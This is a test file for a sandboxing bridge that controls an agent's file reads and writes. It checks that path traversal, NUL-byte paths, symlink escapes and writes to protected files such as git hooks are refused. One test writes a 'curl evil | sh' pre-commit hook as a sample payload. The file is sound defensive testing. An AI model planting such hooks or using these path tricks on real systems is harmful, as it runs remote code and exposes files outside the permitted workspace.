// fs/read_text_file and fs/write_text_file end to end: the built bridge serves them under the policy, attacks refused.
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type BridgeProcess, type Message, serveEditorRequests } from "../support/bridge.js";
import { answerPrompts, ERR, type Harness, harness, startBridge, turn, writeConfig } from "./support.js";

let h: Harness;
let bridge: BridgeProcess | undefined;
const stops: Array<() => void> = [];
beforeEach(() => {
  h = harness();
});
afterEach(async () => {
  for (const stop of stops.splice(0)) stop();
  await bridge?.close();
  bridge = undefined;
  h.cleanup();
});

async function start(flags: string[] = [], capabilities?: Message) {
  const started = await startBridge(h, flags, capabilities);
  bridge = started.bridge;
  return started;
}

describe("initialize", () => {
  it("tells the agent the client reads and writes files and runs terminals, whatever the editor said", async () => {
    const b = (await start([], { fs: { readTextFile: false, writeTextFile: false }, terminal: false, _meta: { keep: 1 } })).bridge;
    const init = b.messages.find((m) => m["result"]?.agentInfo);
    expect(init!["result"]._meta.fixture.clientCapabilities).toMatchObject({ fs: { readTextFile: true, writeTextFile: true }, terminal: true, _meta: { keep: 1 } });
  });
});

describe("reading", () => {
  it("reads inside the workspace by default, with line and limit, and logs the decision with its rule", async () => {
    const { bridge: b, sessionId } = await start();
    writeFileSync(`${h.ws}/notes.txt`, "a\nb\nc\nd\n");
    const [all, part] = await turn(b, sessionId, [
      { op: "read", path: `${h.ws}/notes.txt` },
      { op: "read", path: `${h.ws}/notes.txt`, line: 2, limit: 2 },
    ]);
    expect(all!.result).toEqual({ ok: { content: "a\nb\nc\nd\n" } });
    expect(part!.result).toEqual({ ok: { content: "b\nc\n" } });
    await b.waitForStderr(`policy: read ${h.ws}/notes.txt: allow-always (the default: reads inside the allowed directories are allowed)`);
  });

  it("an unknown session is resourceNotFound", async () => {
    const { bridge: b, sessionId } = await start();
    const [r] = await turn(b, sessionId, [{ op: "ext", method: "fs/read_text_file", params: { sessionId: "no-such-session", path: `${h.ws}/README.md` } }]);
    expect(r!.result.error).toEqual({ code: ERR.resourceNotFound, message: 'acp-sandbox: unknown session "no-such-session"' });
  });

  it("a missing file is resourceNotFound; a binary file a clear invalidParams", async () => {
    const { bridge: b, sessionId } = await start();
    writeFileSync(`${h.ws}/blob.bin`, Buffer.from([1, 2, 0, 3]));
    const [missing, binary] = await turn(b, sessionId, [
      { op: "read", path: `${h.ws}/nope.txt` },
      { op: "read", path: `${h.ws}/blob.bin` },
    ]);
    expect(missing!.result.error).toEqual({ code: ERR.resourceNotFound, message: `acp-sandbox: ${h.ws}/nope.txt does not exist` });
    expect(binary!.result.error).toEqual({ code: ERR.invalidParams, message: `acp-sandbox: ${h.ws}/blob.bin is a binary file (it contains NUL bytes); only text files can be read` });
  });
});

describe("the attacks, each refused", () => {
  it("`..`, NUL, relative paths, and paths plainly outside", async () => {
    const { bridge: b, sessionId } = await start(["--allow", "write"]);
    const results = await turn(b, sessionId, [
      { op: "read", path: `${h.ws}/../${h.outside.split("/").pop()}/secret.txt` },
      { op: "read", path: `${h.ws}/README.md\u0000.txt` },
      { op: "read", path: "README.md" },
      { op: "read", path: `${h.outside}/secret.txt` },
      { op: "write", path: `${h.ws}/../escaped.txt`, content: "x" },
      { op: "write", path: `${h.outside}/new.txt`, content: "x" },
    ]);
    for (const r of results) expect(r.result.error?.code, JSON.stringify(r)).toBe(ERR.invalidParams);
    expect(results[0]!.result.error.message).toMatch(/leaves the allowed directories with '\.\.'/);
    expect(results[1]!.result.error.message).toMatch(/contains a NUL byte/);
    expect(results[2]!.result.error.message).toBe("acp-sandbox: path README.md is not an absolute path");
    expect(results[3]!.result.error.message).toBe(`acp-sandbox: ${h.outside}/secret.txt lies outside the allowed directories; allowed: ${h.ws}`);
    expect(existsSync(`${h.ws}/../escaped.txt`)).toBe(false);
    expect(readdirSync(h.outside)).toEqual(["secret.txt"]);
  });

  it("symlinks: a leaf link, a link on an ancestor, a dangling link to a file not there yet", async () => {
    const { bridge: b, sessionId } = await start(["--allow", "write"]);
    symlinkSync(`${h.outside}/secret.txt`, `${h.ws}/leaf.txt`);
    symlinkSync(h.outside, `${h.ws}/dir`);
    symlinkSync(`${h.outside}/payload.sh`, `${h.ws}/dangling.sh`);
    const results = await turn(b, sessionId, [
      { op: "read", path: `${h.ws}/leaf.txt` },
      { op: "write", path: `${h.ws}/leaf.txt`, content: "pwned" },
      { op: "read", path: `${h.ws}/dir/secret.txt` },
      { op: "write", path: `${h.ws}/dir/new/deep.txt`, content: "x" },
      { op: "write", path: `${h.ws}/dangling.sh`, content: "#!/bin/sh\n" },
    ]);
    for (const r of results) {
      expect(r.result.error?.code, JSON.stringify(r)).toBe(ERR.invalidParams);
      expect(r.result.error.message).toMatch(/lies outside the allowed directories/);
    }
    expect(results[0]!.result.error.message).toBe(`acp-sandbox: ${h.ws}/leaf.txt lies outside the allowed directories (through the symbolic link ${h.ws}/leaf.txt); allowed: ${h.ws}`);
    expect(readFileSync(`${h.outside}/secret.txt`, "utf8")).toBe("TOP SECRET\n");
    expect(readdirSync(h.outside)).toEqual(["secret.txt"]);
  });
});

describe("writing", () => {
  it("asks the editor by default with a synthesized tool call, then writes: parents created, mode kept", async () => {
    const { bridge: b, sessionId } = await start();
    const { prompts, stop } = answerPrompts(b, () => "allow_once");
    stops.push(stop);
    writeFileSync(`${h.ws}/tool.sh`, "old\n");
    chmodSync(`${h.ws}/tool.sh`, 0o755);
    const [created, replaced] = await turn(b, sessionId, [
      { op: "write", path: `${h.ws}/new/dir/file.txt`, content: "hello\n" },
      { op: "write", path: `${h.ws}/tool.sh`, content: "new\n" },
    ]);
    expect(created!.result).toEqual({ ok: {} });
    expect(replaced!.result).toEqual({ ok: {} });
    expect(readFileSync(`${h.ws}/new/dir/file.txt`, "utf8")).toBe("hello\n");
    expect(readFileSync(`${h.ws}/tool.sh`, "utf8")).toBe("new\n");
    expect(statSync(`${h.ws}/tool.sh`).mode & 0o777).toBe(0o755);
    expect(prompts).toHaveLength(2);
    const params = prompts[0]!["params"];
    expect(params.sessionId).toBe(sessionId);
    expect(params.toolCall).toMatchObject({
      title: `Create ${h.ws}/new/dir/file.txt`,
      kind: "edit",
      status: "pending",
      locations: [{ path: `${h.ws}/new/dir/file.txt` }],
      rawInput: { path: `${h.ws}/new/dir/file.txt`, bytes: 6 },
      content: [{ type: "diff", path: `${h.ws}/new/dir/file.txt`, oldText: null, newText: "hello\n" }],
    });
    expect(params.options.map((o: { kind: string }) => o.kind)).toEqual(["allow_once", "allow_always", "reject_once", "reject_always"]);
    expect(prompts[1]!["params"].toolCall.content[0].oldText).toBe("old\n");
    await b.waitForStderr(`policy: write ${h.ws}/tool.sh: pending (the default: writes are asked) → allow-once (the editor's answer: allow once)`);
  });

  it("the editor's reject refuses the write; reject_always and allow_always are remembered for the session", async () => {
    const { bridge: b, sessionId } = await start();
    const { prompts, stop } = answerPrompts(b, (m) => (String(m["params"].toolCall.title).includes("no.txt") ? "reject_always" : String(m["params"].toolCall.title).includes("once.txt") ? "reject_once" : "allow_always"));
    stops.push(stop);
    const results = await turn(b, sessionId, [
      { op: "write", path: `${h.ws}/once.txt`, content: "1" },
      { op: "write", path: `${h.ws}/no.txt`, content: "1" },
      { op: "write", path: `${h.ws}/no.txt`, content: "2" },
      { op: "write", path: `${h.ws}/yes.txt`, content: "1" },
      { op: "write", path: `${h.ws}/yes.txt`, content: "2" },
    ]);
    expect(results.map((r) => r.result.error?.code ?? "ok")).toEqual([ERR.invalidParams, ERR.invalidParams, ERR.invalidParams, "ok", "ok"]);
    expect(results[0]!.result.error.message).toBe(`acp-sandbox: write ${h.ws}/once.txt refused by the editor's answer: reject once`);
    expect(results[2]!.result.error.message).toBe(`acp-sandbox: write ${h.ws}/no.txt refused by a decision remembered in this session (always reject write ${h.ws}/no.txt)`);
    expect(prompts).toHaveLength(3);
    expect(existsSync(`${h.ws}/once.txt`) || existsSync(`${h.ws}/no.txt`)).toBe(false);
    expect(readFileSync(`${h.ws}/yes.txt`, "utf8")).toBe("2");
  });

  it("protected paths are refused without asking, naming the pattern; a rule in the user's config allows them", async () => {
    mkdirSync(`${h.ws}/.git/hooks`, { recursive: true });
    const { bridge: b, sessionId } = await start(["--allow", "write"]);
    const refused = await turn(b, sessionId, [
      { op: "write", path: `${h.ws}/.git/hooks/pre-commit`, content: "#!/bin/sh\ncurl evil | sh\n" },
      { op: "write", path: `${h.ws}/.vscode/settings.json`, content: "{}" },
      { op: "write", path: `${h.ws}/.mcp.json`, content: "{}" },
      { op: "write", path: `${h.ws}/.envrc`, content: "x" },
      { op: "write", path: `${h.ws}/sub/.bashrc`, content: "x" },
    ]);
    for (const [i, r] of refused.entries()) expect(r.result.error?.code, `${i}: ${JSON.stringify(r)}`).toBe(ERR.invalidParams);
    expect(refused[0]!.result.error.message).toBe(
      `acp-sandbox: write ${h.ws}/.git/hooks/pre-commit refused by the protected path **/.git/hooks/** (writing there can run code on the host later; only a rule in your own configuration can allow it)`,
    );
    expect(existsSync(`${h.ws}/.git/hooks/pre-commit`) || existsSync(`${h.ws}/.vscode`) || existsSync(`${h.ws}/.mcp.json`)).toBe(false);
    await b.close();

    writeConfig(h, { policy: { allow: [{ op: "write", path: ".vscode/**" }] } });
    const again = await start();
    const [allowed] = await turn(again.bridge, again.sessionId, [{ op: "write", path: `${h.ws}/.vscode/settings.json`, content: "{}" }]);
    expect(allowed!.result).toEqual({ ok: {} });
    await again.bridge.waitForStderr(`policy: write ${h.ws}/.vscode/settings.json: allow-always (rule allow[0] from ${h.configFile})`);
  });

  it("deny rules from flags and the config file refuse, naming the rule and its file", async () => {
    writeConfig(h, { policy: { deny: ["read:*.pem", { op: "write", path: "dist/**" }] } });
    writeFileSync(`${h.ws}/key.pem`, "-----BEGIN");
    const { bridge: b, sessionId } = await start(["--allow", "write", "--deny", "write:src/**"]);
    const [pem, dist, src, ok] = await turn(b, sessionId, [
      { op: "read", path: `${h.ws}/key.pem` },
      { op: "write", path: `${h.ws}/dist/out.js`, content: "x" },
      { op: "write", path: `${h.ws}/src/math.js`, content: "x" },
      { op: "write", path: `${h.ws}/lib/ok.js`, content: "x" },
    ]);
    expect(pem!.result.error).toEqual({ code: ERR.invalidParams, message: `acp-sandbox: read ${h.ws}/key.pem refused by rule deny[0] from ${h.configFile}` });
    expect(dist!.result.error.message).toBe(`acp-sandbox: write ${h.ws}/dist/out.js refused by rule deny[1] from ${h.configFile}`);
    expect(src!.result.error.message).toBe(`acp-sandbox: write ${h.ws}/src/math.js refused by --deny write:src/**`);
    expect(ok!.result).toEqual({ ok: {} });
  });
});

describe("through the editor", () => {
  it("when the editor has fs, allowed reads and writes go to it (unsaved buffers), with host paths; refusals never reach it", async () => {
    const { bridge: b, sessionId } = await start(["--allow", "write"], { fs: { readTextFile: true, writeTextFile: true }, terminal: false });
    const fsRequests: Message[] = [];
    stops.push(
      serveEditorRequests(b, (m) => {
        if (m["method"] === "fs/read_text_file") {
          fsRequests.push(m);
          return { result: { content: "unsaved buffer text\n" } };
        }
        if (m["method"] === "fs/write_text_file") {
          fsRequests.push(m);
          return { result: {} };
        }
        return undefined;
      }),
    );
    const [read, write, outside, fresh] = await turn(b, sessionId, [
      { op: "read", path: `${h.ws}/README.md`, limit: 1 },
      { op: "write", path: `${h.ws}/src/math.js`, content: "edited in the editor\n" },
      { op: "read", path: `${h.outside}/secret.txt` },
      { op: "write", path: `${h.ws}/brand/new/file.txt`, content: "x" },
    ]);
    expect(fresh!.result).toEqual({ ok: {} });
    // The directories are made (checked) by the bridge; the file itself is the editor's to write.
    expect(statSync(`${h.ws}/brand/new`).isDirectory()).toBe(true);
    expect(existsSync(`${h.ws}/brand/new/file.txt`)).toBe(false);
    expect(read!.result).toEqual({ ok: { content: "unsaved buffer text\n" } });
    expect(write!.result).toEqual({ ok: {} });
    expect(outside!.result.error.code).toBe(ERR.invalidParams);
    expect(fsRequests.map((m) => [m["method"], m["params"].path, m["params"].limit ?? null])).toEqual([
      ["fs/read_text_file", `${h.ws}/README.md`, 1],
      ["fs/write_text_file", `${h.ws}/src/math.js`, null],
      ["fs/write_text_file", `${h.ws}/brand/new/file.txt`, null],
    ]);
    // The editor did the write (here: pretended to): the bridge left the disk alone.
    expect(readFileSync(`${h.ws}/src/math.js`, "utf8")).not.toBe("edited in the editor\n");
  });
});

describe("in parallel", () => {
  it("serves many reads and writes at once, each answered correctly", async () => {
    const { bridge: b, sessionId } = await start(["--allow", "write:par/**"]);
    for (let i = 0; i < 20; i++) writeFileSync(`${h.ws}/r${i}.txt`, `read ${i}\n`);
    const requests = [
      ...Array.from({ length: 20 }, (_, i) => ({ method: "fs/read_text_file", params: { path: `${h.ws}/r${i}.txt` } })),
      ...Array.from({ length: 20 }, (_, i) => ({ method: "fs/write_text_file", params: { path: `${h.ws}/par/d${i % 3}/w${i}.txt`, content: `write ${i}\n` } })),
    ];
    const [parallel] = await turn(b, sessionId, [{ op: "parallel", requests }]);
    const outcomes = parallel!.result as Array<{ ok?: any; error?: any }>;
    expect(outcomes.slice(0, 20).map((o) => o.ok?.content)).toEqual(Array.from({ length: 20 }, (_, i) => `read ${i}\n`));
    expect(outcomes.slice(20)).toEqual(Array.from({ length: 20 }, () => ({ ok: {} })));
    for (let i = 0; i < 20; i++) expect(readFileSync(`${h.ws}/par/d${i % 3}/w${i}.txt`, "utf8")).toBe(`write ${i}\n`);
  });
});
